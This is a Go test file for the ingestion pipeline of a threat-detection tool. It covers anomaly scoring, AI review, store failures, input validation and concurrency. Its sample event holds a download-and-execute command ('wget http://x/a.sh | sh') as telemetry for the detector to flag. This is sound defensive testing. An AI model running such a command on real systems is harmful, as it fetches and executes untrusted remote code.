package pipeline

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/lvonguyen/threatlens/internal/notify"
	"github.com/lvonguyen/threatlens/internal/observability"
	"github.com/lvonguyen/threatlens/internal/scoring"
	"github.com/lvonguyen/threatlens/internal/store"
	"github.com/lvonguyen/threatlens/internal/telemetry"
)

// =============================================================================
// Fakes
// =============================================================================

func fixedScore(score float64) scoring.Scorer {
	return scoring.Func(func(*telemetry.Event) float64 { return score })
}

type countingEngine struct {
	calls      atomic.Int32
	assessment *telemetry.Assessment
	err        error
	delay      time.Duration
	panicWith  any
}

func (e *countingEngine) Review(ctx context.Context, payload string) (*telemetry.Assessment, error) {
	e.calls.Add(1)
	if e.panicWith != nil {
		panic(e.panicWith)
	}
	if e.delay > 0 {
		select {
		case <-time.After(e.delay):
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	return e.assessment, e.err
}

func goodEngine() *countingEngine {
	return &countingEngine{assessment: &telemetry.Assessment{
		Narrative:  "Suspicious download and execute",
		Mitigation: "Isolate host and review process tree",
		Confidence: 0.9,
	}}
}

// flakyStore wraps a MemoryStore and fails selected operations.
type flakyStore struct {
	*store.MemoryStore
	eventErr  error
	reviewErr error
	events    atomic.Int32
}

func (f *flakyStore) InsertEvent(ctx context.Context, ev *telemetry.Event) (int64, error) {
	if f.eventErr != nil {
		return 0, f.eventErr
	}
	f.events.Add(1)
	return f.MemoryStore.InsertEvent(ctx, ev)
}

func (f *flakyStore) InsertReview(ctx context.Context, eventID int64, rv *telemetry.Review) error {
	if f.reviewErr != nil {
		return f.reviewErr
	}
	return f.MemoryStore.InsertReview(ctx, eventID, rv)
}

type recordingPublisher struct {
	mu      sync.Mutex
	notices []*notify.ThreatNotice
}

func (r *recordingPublisher) Publish(n *notify.ThreatNotice) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.notices = append(r.notices, n)
}

func (r *recordingPublisher) Close() error { return nil }

func (r *recordingPublisher) count() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.notices)
}

func newTestPipeline(t *testing.T, deps Dependencies) *Pipeline {
	t.Helper()
	if deps.Store == nil {
		deps.Store = store.NewMemoryStore()
	}
	if deps.Logger == nil {
		deps.Logger = zap.NewNop()
	}
	p, err := New(Config{ReviewTimeout: 200 * time.Millisecond}, deps)
	require.NoError(t, err)
	return p
}

func validSubmission() Submission {
	return Submission{
		Source:    telemetry.SourceHostSensor,
		Timestamp: "2024-05-01T10:00:00",
		EventType: "process_create",
		Data:      "cmd=wget http://x/a.sh | sh,anomaly_factor=0.9",
	}
}

// =============================================================================
// Construction Tests
// =============================================================================

func TestNew_RequiresCollaborators(t *testing.T) {
	_, err := New(DefaultConfig(), Dependencies{Scorer: fixedScore(0), Engine: goodEngine()})
	assert.Error(t, err)
	_, err = New(DefaultConfig(), Dependencies{Store: store.NewMemoryStore(), Engine: goodEngine()})
	assert.Error(t, err)
	_, err = New(DefaultConfig(), Dependencies{Store: store.NewMemoryStore(), Scorer: fixedScore(0)})
	assert.Error(t, err)
}

func TestIsAnomalous(t *testing.T) {
	assert.False(t, IsAnomalous(0.5))
	assert.True(t, IsAnomalous(0.5000001))
	assert.False(t, IsAnomalous(-1))
	assert.True(t, IsAnomalous(7))
}

// =============================================================================
// Scenario Tests
// =============================================================================

func TestIngest_AnomalousEventIsReviewed(t *testing.T) {
	st := store.NewMemoryStore()
	engine := goodEngine()
	pub := &recordingPublisher{}
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.9), Engine: engine, Publisher: pub})

	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)

	assert.Equal(t, StateReviewed, res.State)
	assert.True(t, res.Event.IsAnomalous)
	assert.Equal(t, 0.9, res.Event.AnomalyScore)
	assert.Equal(t, "Isolate host and review process tree", res.Mitigation)
	assert.Equal(t, 0.9, res.Confidence)
	assert.Equal(t, int32(1), engine.calls.Load())
	assert.Equal(t, 1, pub.count())

	reviewed, err := st.ListRecentReviewed(context.Background(), 100)
	require.NoError(t, err)
	require.Len(t, reviewed, 1)
	assert.Equal(t, res.Event.ID, reviewed[0].ID)
	assert.Equal(t, res.Event.ID, reviewed[0].Review.EventID)
}

func TestIngest_NormalEventSkipsReview(t *testing.T) {
	st := store.NewMemoryStore()
	engine := goodEngine()
	pub := &recordingPublisher{}
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.1), Engine: engine, Publisher: pub})

	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)

	assert.False(t, res.Event.IsAnomalous)
	assert.Equal(t, MitigationBelowThreshold, res.Mitigation)
	assert.Zero(t, res.Confidence)
	assert.Zero(t, engine.calls.Load())
	assert.Zero(t, pub.count())

	events, err := st.ListRecentEvents(context.Background(), 100)
	require.NoError(t, err)
	assert.Len(t, events, 1)
	reviewed, err := st.ListRecentReviewed(context.Background(), 100)
	require.NoError(t, err)
	assert.Empty(t, reviewed)
}

func TestIngest_FailingEngineDegrades(t *testing.T) {
	st := store.NewMemoryStore()
	engine := &countingEngine{err: errors.New("model overloaded")}
	metrics := observability.NewMetrics(prometheus.NewRegistry())
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.95), Engine: engine, Metrics: metrics})

	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)

	assert.Equal(t, StateReviewFailed, res.State)
	assert.True(t, res.Event.IsAnomalous)
	assert.Equal(t, MitigationReviewUnavailable, res.Mitigation)
	assert.Zero(t, res.Confidence)
	assert.Equal(t, int32(1), engine.calls.Load())

	events, err := st.ListRecentEvents(context.Background(), 100)
	require.NoError(t, err)
	assert.Len(t, events, 1)
	reviewed, err := st.ListRecentReviewed(context.Background(), 100)
	require.NoError(t, err)
	assert.Empty(t, reviewed)

	assert.Equal(t, float64(1), testutil.ToFloat64(metrics.ReviewOutcomes.WithLabelValues(observability.ReviewOutcomeFailed)))
}

func TestIngest_ReviewTimeout(t *testing.T) {
	engine := goodEngine()
	engine.delay = time.Second
	p := newTestPipeline(t, Dependencies{Scorer: fixedScore(0.8), Engine: engine})

	start := time.Now()
	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)

	assert.Less(t, time.Since(start), 900*time.Millisecond)
	assert.Equal(t, MitigationReviewUnavailable, res.Mitigation)
}

func TestIngest_ReviewPanicIsAbsorbed(t *testing.T) {
	engine := &countingEngine{panicWith: "nil map write"}
	p := newTestPipeline(t, Dependencies{Scorer: fixedScore(0.8), Engine: engine})

	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)
	assert.Equal(t, MitigationReviewUnavailable, res.Mitigation)
}

func TestIngest_InvalidAssessmentIsAbsorbed(t *testing.T) {
	engine := &countingEngine{assessment: &telemetry.Assessment{Mitigation: "x", Confidence: 1.7}}
	st := store.NewMemoryStore()
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.8), Engine: engine})

	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)
	assert.Equal(t, StateReviewFailed, res.State)

	reviewed, err := st.ListRecentReviewed(context.Background(), 100)
	require.NoError(t, err)
	assert.Empty(t, reviewed)
}

func TestIngest_NilAssessmentIsAbsorbed(t *testing.T) {
	p := newTestPipeline(t, Dependencies{Scorer: fixedScore(0.8), Engine: &countingEngine{}})

	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)
	assert.Equal(t, MitigationReviewUnavailable, res.Mitigation)
}

func TestIngest_PanickingScorerUsesDefault(t *testing.T) {
	scorer := scoring.Func(func(*telemetry.Event) float64 { panic("model not loaded") })
	engine := goodEngine()
	p := newTestPipeline(t, Dependencies{Scorer: scorer, Engine: engine})

	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)
	assert.Zero(t, res.Event.AnomalyScore)
	assert.Zero(t, engine.calls.Load())
}

// =============================================================================
// Validation Tests
// =============================================================================

func TestIngest_InvalidInputWritesNothing(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(*Submission)
		field  string
	}{
		{"missing source", func(s *Submission) { s.Source = "" }, "source"},
		{"blank timestamp", func(s *Submission) { s.Timestamp = "   " }, "timestamp"},
		{"missing event type", func(s *Submission) { s.EventType = "" }, "event_type"},
		{"missing data", func(s *Submission) { s.Data = "" }, "data"},
		{"NUL in data", func(s *Submission) { s.Data = "a\x00b" }, "data"},
		{"invalid UTF-8 in data", func(s *Submission) { s.Data = "anomaly_factor=0.9 \xff\xfe" }, "data"},
		{"NUL in source", func(s *Submission) { s.Source = "host\x00sensor" }, "source"},
		{"invalid UTF-8 in timestamp", func(s *Submission) { s.Timestamp = "2024-05-01\xc3" }, "timestamp"},
		{"NUL in event type", func(s *Submission) { s.EventType = "\x00" }, "event_type"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			st := &flakyStore{MemoryStore: store.NewMemoryStore()}
			engine := goodEngine()
			p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.9), Engine: engine})

			sub := validSubmission()
			tt.mutate(&sub)
			_, err := p.Ingest(context.Background(), sub)

			require.ErrorIs(t, err, ErrInvalidEvent)
			assert.Contains(t, err.Error(), tt.field)
			assert.Zero(t, st.events.Load())
			assert.Zero(t, engine.calls.Load())
		})
	}
}

func TestValidate_ReportsBlankAndUnstorableFields(t *testing.T) {
	p := newTestPipeline(t, Dependencies{Scorer: fixedScore(0.9), Engine: goodEngine()})

	sub := validSubmission()
	sub.Source = ""
	sub.Data = "a\x00b"
	err := p.Validate(sub)

	require.ErrorIs(t, err, ErrInvalidEvent)
	assert.Contains(t, err.Error(), "missing or blank field(s): source")
	assert.Contains(t, err.Error(), "invalid UTF-8 or NUL byte in field(s): data")
}

func TestValidate_AcceptsMultibyteText(t *testing.T) {
	p := newTestPipeline(t, Dependencies{Scorer: fixedScore(0.9), Engine: goodEngine()})

	sub := validSubmission()
	sub.Data = "user=Zoë, cmd='¯\\_(ツ)_/¯', anomaly_factor=0.9"
	assert.NoError(t, p.Validate(sub))
}

// =============================================================================
// Store Failure Tests
// =============================================================================

func TestIngest_UnstorableEventIsInvalid(t *testing.T) {
	st := &flakyStore{
		MemoryStore: store.NewMemoryStore(),
		eventErr:    store.Wrap("insert", store.TableEvents, store.ErrUnstorable),
	}
	engine := goodEngine()
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.9), Engine: engine})

	res, err := p.Ingest(context.Background(), validSubmission())
	assert.Nil(t, res)
	require.ErrorIs(t, err, ErrInvalidEvent)
	assert.NotErrorIs(t, err, store.ErrStoreUnavailable)
	assert.Zero(t, engine.calls.Load())
}

func TestIngest_UnstorableAssessmentIsDefect(t *testing.T) {
	engine := goodEngine()
	engine.assessment.Mitigation = "isolate\x00host"
	st := store.NewMemoryStore()
	metrics := observability.NewMetrics(prometheus.NewRegistry())
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.9), Engine: engine, Metrics: metrics})

	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)
	assert.Equal(t, MitigationReviewUnavailable, res.Mitigation)
	assert.Equal(t, StateReviewFailed, res.State)
	assert.Equal(t, float64(1), testutil.ToFloat64(metrics.ReviewOutcomes.WithLabelValues(observability.ReviewOutcomeDefect)))

	reviewed, err := st.ListRecentReviewed(context.Background(), 10)
	require.NoError(t, err)
	assert.Empty(t, reviewed)
}

func TestIngest_CancelledBeforeReviewStoredIsNotOutage(t *testing.T) {
	st := &flakyStore{
		MemoryStore: store.NewMemoryStore(),
		reviewErr:   store.Wrap("insert", store.TableReviews, fmt.Errorf("%w: %w", store.ErrStoreUnavailable, context.Canceled)),
	}
	metrics := observability.NewMetrics(prometheus.NewRegistry())
	pub := &recordingPublisher{}
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.9), Engine: goodEngine(), Publisher: pub, Metrics: metrics})

	res, err := p.Ingest(context.Background(), validSubmission())
	require.NoError(t, err)
	assert.Equal(t, MitigationReviewUnavailable, res.Mitigation)
	assert.Equal(t, StateReviewFailed, res.State)
	assert.Zero(t, pub.count())
	assert.Equal(t, float64(1), testutil.ToFloat64(metrics.ReviewOutcomes.WithLabelValues(observability.ReviewOutcomeCanceled)))
	assert.Zero(t, testutil.ToFloat64(metrics.ReviewOutcomes.WithLabelValues(observability.ReviewOutcomeFailed)))
}

func TestIngest_EventStoreFailureIsSurfaced(t *testing.T) {
	st := &flakyStore{
		MemoryStore: store.NewMemoryStore(),
		eventErr:    store.Wrap("insert", store.TableEvents, store.ErrStoreUnavailable),
	}
	engine := goodEngine()
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.9), Engine: engine})

	res, err := p.Ingest(context.Background(), validSubmission())
	assert.Nil(t, res)
	require.ErrorIs(t, err, store.ErrStoreUnavailable)
	assert.Zero(t, engine.calls.Load())
}

func TestIngest_UntypedStoreErrorIsUnavailable(t *testing.T) {
	st := &flakyStore{MemoryStore: store.NewMemoryStore(), eventErr: errors.New("disk full")}
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.1), Engine: goodEngine()})

	_, err := p.Ingest(context.Background(), validSubmission())
	require.ErrorIs(t, err, store.ErrStoreUnavailable)
}

func TestIngest_ReviewStoreOutageIsSurfaced(t *testing.T) {
	st := &flakyStore{
		MemoryStore: store.NewMemoryStore(),
		reviewErr:   store.Wrap("insert", store.TableReviews, store.ErrStoreUnavailable),
	}
	pub := &recordingPublisher{}
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.9), Engine: goodEngine(), Publisher: pub})

	res, err := p.Ingest(context.Background(), validSubmission())
	assert.Nil(t, res)
	require.ErrorIs(t, err, store.ErrStoreUnavailable)
	assert.Zero(t, pub.count())
}

func TestIngest_DuplicateReviewIsDefect(t *testing.T) {
	for _, sentinel := range []error{store.ErrDuplicateReview, store.ErrUnknownEvent} {
		t.Run(sentinel.Error(), func(t *testing.T) {
			st := &flakyStore{
				MemoryStore: store.NewMemoryStore(),
				reviewErr:   store.Wrap("insert", store.TableReviews, sentinel),
			}
			metrics := observability.NewMetrics(prometheus.NewRegistry())
			p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.9), Engine: goodEngine(), Metrics: metrics})

			res, err := p.Ingest(context.Background(), validSubmission())
			require.NoError(t, err)
			assert.Equal(t, MitigationReviewUnavailable, res.Mitigation)
			assert.Equal(t, float64(1), testutil.ToFloat64(metrics.ReviewOutcomes.WithLabelValues(observability.ReviewOutcomeDefect)))
		})
	}
}

// =============================================================================
// Property Tests
// =============================================================================

func TestIngest_OneEventPerRequestAndReviewIffAnomalous(t *testing.T) {
	scores := []float64{0, 0.2, 0.5, 0.51, 0.75, 1, 3, -0.4, 0.5, 0.99}
	idx := atomic.Int32{}
	scorer := scoring.Func(func(*telemetry.Event) float64 {
		return scores[int(idx.Add(1)-1)%len(scores)]
	})
	st := store.NewMemoryStore()
	engine := goodEngine()
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: scorer, Engine: engine})

	anomalous := 0
	for range scores {
		res, err := p.Ingest(context.Background(), validSubmission())
		require.NoError(t, err)
		if res.Event.IsAnomalous {
			anomalous++
		}
	}

	events, err := st.ListRecentEvents(context.Background(), 100)
	require.NoError(t, err)
	assert.Len(t, events, len(scores))
	assert.Equal(t, 5, anomalous)
	assert.Equal(t, int32(anomalous), engine.calls.Load())

	reviewed, err := st.ListRecentReviewed(context.Background(), 100)
	require.NoError(t, err)
	assert.Len(t, reviewed, anomalous)
}

func TestIngest_ConcurrentRequests(t *testing.T) {
	st := store.NewMemoryStore()
	p := newTestPipeline(t, Dependencies{Store: st, Scorer: fixedScore(0.9), Engine: goodEngine()})

	const n = 50
	ids := make([]int64, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			res, err := p.Ingest(context.Background(), validSubmission())
			if assert.NoError(t, err) {
				ids[i] = res.Event.ID
			}
		}()
	}
	wg.Wait()

	seen := make(map[int64]bool, n)
	for _, id := range ids {
		assert.False(t, seen[id], "duplicate id %d", id)
		seen[id] = true
	}
	reviewed, err := st.ListRecentReviewed(context.Background(), 100)
	require.NoError(t, err)
	assert.Len(t, reviewed, n)
}
